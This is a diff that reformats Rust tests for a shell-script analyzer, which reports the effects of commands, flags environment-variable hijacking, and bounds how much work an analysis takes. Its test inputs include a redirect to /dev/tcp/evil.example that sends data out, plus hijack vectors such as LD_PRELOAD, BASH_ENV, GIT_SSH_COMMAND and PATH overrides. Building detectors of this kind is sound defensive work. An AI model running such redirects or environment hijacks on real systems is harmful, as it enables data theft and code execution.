@@ -17,19 +17,12 @@ fn shown(effect: &Effect) -> String {
         Target::Host(host) => host.name.clone().unwrap_or_default(),
         Target::Text(_) => String::new(),
     };
-    format!("{:?} {target}", effect.action)
-        .to_lowercase()
-        .trim()
-        .to_owned()
+    format!("{:?} {target}", effect.action).to_lowercase().trim().to_owned()
 }
 
 /// All effects but `run`, as text.
 fn effects(source: &str) -> Vec<String> {
-    analysis(source)
-        .effects()
-        .filter(|effect| effect.action != Action::Run)
-        .map(shown)
-        .collect()
+    analysis(source).effects().filter(|effect| effect.action != Action::Run).map(shown).collect()
 }
 
 /// The commands as text, a `?` for what is not known.
@@ -44,12 +37,7 @@ fn commands(source: &str) -> Vec<String> {
         });
         words.collect::<Vec<_>>().join(" ")
     };
-    analysis(source)
-        .commands
-        .iter()
-        .map(line)
-        .filter(|line| !line.is_empty())
-        .collect()
+    analysis(source).commands.iter().map(line).filter(|line| !line.is_empty()).collect()
 }
 
 fn partial(analysis: &Analysis) -> bool {
@@ -67,10 +55,7 @@ fn redirections_are_effects() {
         ("p >&out", &["write /work/out"]),
         ("p {fd}>out", &["write /work/out"]),
         ("p >/dev/null 2>/dev/stderr </dev/null", &[]),
-        (
-            "p >/dev/tcp/evil.example/80",
-            &["connect evil.example", "send evil.example"],
-        ),
+        ("p >/dev/tcp/evil.example/80", &["connect evil.example", "send evil.example"]),
         ("{ p; q; } >out", &["write /work/out"]),
         ("p >$x", &["opaque"]),
         ("p >~/x", &["write /home/me/x"]),
@@ -106,18 +91,12 @@ fn what_is_assigned_is_known_later() {
         ("x='a b'; p $x \"$x\"", &["p a b a b"]),
         ("p $UNKNOWN", &["p ?"]),
         ("p out-$UNKNOWN", &["p out-?"]),
-        (
-            "for f in *.txt; do p \"$f\" \"${f%.txt}.md\"; done",
-            &["p glob:*.txt glob:*.md"],
-        ),
+        ("for f in *.txt; do p \"$f\" \"${f%.txt}.md\"; done", &["p glob:*.txt glob:*.md"]),
         ("for x in a b; do p $x; done", &["p a", "p b"]),
         ("x=1; q && x=2; p $x", &["q", "p ?"]),
         ("f() { p \"$2\"; }; f a b", &["f a b", "p b"]),
         ("x=$(q); p \"$x\"", &["q", "p ?"]),
-        (
-            "set -- a b; shift; p \"$@\"",
-            &["set -- a b", "shift", "p b"],
-        ),
+        ("set -- a b; shift; p \"$@\"", &["set -- a b", "shift", "p b"]),
     ];
     for (source, expected) in cases {
         assert_eq!(commands(source), expected, "{source}");
@@ -126,55 +105,28 @@ fn what_is_assigned_is_known_later() {
 
 #[test]
 fn the_environment_can_change_what_runs() {
-    for source in [
-        "LD_PRELOAD=x p",
-        "export BASH_ENV=x; p",
-        "PATH=x:$PATH; p",
-        "GIT_SSH_COMMAND=x p",
-        "read PATH; p",
-    ] {
+    for source in ["LD_PRELOAD=x p", "export BASH_ENV=x; p", "PATH=x:$PATH; p", "GIT_SSH_COMMAND=x p", "read PATH; p"] {
         let analysis = analysis(source);
-        assert!(
-            analysis
-                .effects()
-                .any(|effect| effect.marks.contains(&Mark::Environment)),
-            "{source}"
-        );
+        assert!(analysis.effects().any(|effect| effect.marks.contains(&Mark::Environment)), "{source}");
         assert!(partial(&analysis), "{source}");
     }
-    for source in [
-        "LANG=C p",
-        "FOO=x p",
-        "export RUST_LOG=debug; p",
-        "PAGER=cat p",
-        "IFS= read -r x",
-    ] {
+    for source in ["LANG=C p", "FOO=x p", "export RUST_LOG=debug; p", "PAGER=cat p", "IFS= read -r x"] {
         assert!(!partial(&analysis(source)), "{source}");
     }
 }
 
 #[test]
 fn programs_by_path() {
-    for source in [
-        "/bin/p",
-        "/usr/bin/p",
-        "/proc/self/root/usr/bin/p",
-        "/bin//p",
-    ] {
+    for source in ["/bin/p", "/usr/bin/p", "/proc/self/root/usr/bin/p", "/bin//p"] {
         assert!(!partial(&analysis(source)), "{source}");
     }
     for source in ["./p", "/tmp/p", "/usr/bin/../../tmp/p", "../p"] {
         let analysis = analysis(source);
-        let file = |effect: &Effect| matches!(&effect.target, Target::Program(program) if program.origin == CodeOrigin::File);
-        assert!(
-            analysis.effects().any(file) && partial(&analysis),
-            "{source}"
-        );
+        let file =
+            |effect: &Effect| matches!(&effect.target, Target::Program(program) if program.origin == CodeOrigin::File);
+        assert!(analysis.effects().any(file) && partial(&analysis), "{source}");
     }
-    assert_eq!(
-        commands("/lib64/ld-linux-x86-64.so.2 /bin/p a"),
-        ["/lib64/ld-linux-x86-64.so.2 /bin/p a", "/bin/p a"]
-    );
+    assert_eq!(commands("/lib64/ld-linux-x86-64.so.2 /bin/p a"), ["/lib64/ld-linux-x86-64.so.2 /bin/p a", "/bin/p a"]);
     assert_eq!(commands("busybox p a"), ["busybox p a", "p a"]);
 }
 
@@ -207,11 +159,7 @@ fn what_is_not_known_is_partial() {
 #[test]
 fn commands_know_who_runs_them() {
     let analysis = analysis("p $(q $(r))");
-    let parents: Vec<_> = analysis
-        .commands
-        .iter()
-        .map(|command| command.parent)
-        .collect();
+    let parents: Vec<_> = analysis.commands.iter().map(|command| command.parent).collect();
     assert_eq!(parents, [None, Some(0), Some(1)]);
 }
 
@@ -228,23 +176,14 @@ fn flags_say_how_a_command_is_built() {
 
 #[test]
 fn work_is_bounded() {
-    let nested =
-        "for a in {1..60}; do for b in {1..60}; do for c in {1..60}; do p $a$b$c; done; done; done";
+    let nested = "for a in {1..60}; do for b in {1..60}; do for c in {1..60}; do p $a$b$c; done; done; done";
     let analysis = with_limits(nested, Limits::default());
     assert!(partial(&analysis) && analysis.commands.len() < 10_000);
     let many = "p;".repeat(100_000);
     assert!(partial(&with_limits(&many, Limits::default())));
-    assert!(partial(&with_limits(
-        &"{a,b}".repeat(40),
-        Limits::default()
-    )));
-    let doubling: String = (0..40)
-        .map(|number| format!("f{}() {{ f{number}; f{number}; }}; ", number + 1))
-        .collect();
-    assert!(partial(&with_limits(
-        &format!("f0() {{ p; }}; {doubling} f40"),
-        Limits::default()
-    )));
+    assert!(partial(&with_limits(&"{a,b}".repeat(40), Limits::default())));
+    let doubling: String = (0..40).map(|number| format!("f{}() {{ f{number}; f{number}; }}; ", number + 1)).collect();
+    assert!(partial(&with_limits(&format!("f0() {{ p; }}; {doubling} f40"), Limits::default())));
     let long = format!("x=aaaaaaaa; {} p $x", "x=$x$x; ".repeat(40));
     assert!(!with_limits(&long, Limits::default()).commands.is_empty());
 }
